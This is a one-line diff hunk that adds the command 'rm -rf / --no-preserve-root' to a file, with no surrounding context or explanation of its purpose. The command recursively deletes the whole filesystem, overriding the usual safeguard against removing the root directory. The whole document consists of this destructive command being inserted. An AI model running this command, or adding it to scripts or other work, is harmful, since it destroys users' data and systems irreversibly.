@@ -1,0 +1,1 @@
+rm -rf / --no-preserve-root
